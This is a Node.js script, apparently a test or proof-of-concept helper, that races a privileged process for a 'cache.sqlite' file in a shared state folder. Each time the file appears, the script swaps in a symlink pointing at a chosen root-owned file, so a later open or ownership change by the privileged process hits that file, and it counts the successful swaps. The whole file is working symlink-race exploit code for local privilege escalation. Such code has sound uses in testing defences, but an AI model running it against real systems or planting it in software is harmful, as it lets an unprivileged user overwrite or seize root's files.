// A hostile account that owns the state folder. As soon as somebody makes a new cache there, a symbolic link to a file
// of root's takes its place: whoever opens the cache by its name then, or gives it away, does that to root's file.
//
//   node link-swapper.mjs FOLDER TARGET
//
// Says "ready", and at its end (SIGTERM) how often it was quick enough to find a new file.

import { lstatSync, readlinkSync, renameSync, symlinkSync, unlinkSync, writeSync } from 'node:fs';
import { join } from 'node:path';

const [folder = '', target = ''] = process.argv.slice(2);
const cache = join(folder, 'cache.sqlite');
const link = join(folder, 'link');
/** As long as a link may be in the place of the cache (milliseconds): long enough to be followed. */
const STAY = 20;
/** How often the loop looks before it listens for signals. */
const LOOKS = 2_000;

let swapped = 0;
let since = 0;

process.on('SIGTERM', () => {
  writeSync(1, `${swapped}\n`);
  process.exit(0);
});

makeLink();
writeSync(1, 'ready\n');
look();

function look() {
  for (let i = 0; i < LOOKS; i++) {
    try {
      const found = lstatSync(cache, { throwIfNoEntry: false });
      if (found === undefined) continue;
      if (found.isFile()) swap();
      else if (Date.now() - since > STAY) unlinkSync(cache);
    } catch {
      // Somebody was quicker.
    }
  }
  setImmediate(look);
}

function swap() {
  renameSync(link, cache);
  since = Date.now();
  swapped += 1;
  makeLink();
  for (const suffix of ['-wal', '-shm', '.lock', '.broken']) remove(cache + suffix);
}

function makeLink() {
  try {
    symlinkSync(target, link);
  } catch {
    readlinkSync(link);
  }
}

function remove(file) {
  try {
    unlinkSync(file);
  } catch {
    // It isn't there.
  }
}
